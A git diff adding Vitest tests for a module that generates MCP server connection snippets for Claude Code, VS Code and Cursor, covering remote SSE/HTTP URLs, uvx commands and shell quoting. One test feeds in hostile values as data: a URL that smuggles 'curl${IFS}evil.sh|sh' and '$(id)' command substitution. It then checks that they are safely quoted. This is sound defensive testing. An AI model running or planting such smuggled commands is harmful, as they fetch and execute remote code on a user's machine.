@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { clientName, connectConfigs, hostedConfigs, npxArgs } from "./connect.js";
+import { clientName, connectConfigs, hostedConfigs, npxArgs, remoteConfigs, shellWord } from "./connect.js";
 
 describe("connect configurations", () => {
   const keys = [{ key: "GitHub Personal Access Token", env_var: "GITHUB_PERSONAL_ACCESS_TOKEN", description: "repo scope" }];
@@ -42,5 +42,28 @@ describe("hostedConfigs", () => {
   it("names the server after its id", () => {
     expect(clientName("GitHub")).toBe("github");
     expect(clientName("@scope/x y")).toBe("scope-x-y");
+  });
+});
+
+describe("a server its publisher hosts, or run through uvx", () => {
+  it("points each client at the URL with no key of ours; an /sse URL uses the SSE transport", () => {
+    const c = remoteConfigs("acme", "https://mcp.acme.example/sse", "sse");
+    expect(c.claudeCode).toBe("claude mcp add --transport sse acme https://mcp.acme.example/sse");
+    expect(JSON.parse(c.vscode)).toEqual({ servers: { acme: { type: "sse", url: "https://mcp.acme.example/sse" } } });
+    expect(JSON.parse(c.cursor)).toEqual({ mcpServers: { acme: { url: "https://mcp.acme.example/sse" } } });
+  });
+
+  it("quotes a URL or argument a shell would read as commands, so a pasted snippet runs nothing else", () => {
+    const hostile = "https://x.example/m;curl${IFS}evil.sh|sh'";
+    expect(remoteConfigs("x", hostile, "streamable-http").claudeCode).toBe("claude mcp add --transport http x 'https://x.example/m;curl${IFS}evil.sh|sh'\\'''");
+    expect(shellWord("plain-arg_1.0")).toBe("plain-arg_1.0");
+    expect(shellWord("$(id)")).toBe("'$(id)'");
+    expect(connectConfigs("evil", "npx -y pkg $(id)", null)!.claudeCode).toBe("claude mcp add evil -- npx -y pkg '$(id)'");
+  });
+
+  it("runs a uvx command through uvx (no -y)", () => {
+    const c = connectConfigs("time", "uvx mcp-server-time==1.0 --local-timezone=UTC", null)!;
+    expect(c.claudeCode).toBe("claude mcp add time -- uvx mcp-server-time==1.0 --local-timezone=UTC");
+    expect(JSON.parse(c.cursor)).toEqual({ mcpServers: { time: { command: "uvx", args: ["mcp-server-time==1.0", "--local-timezone=UTC"] } } });
   });
 });
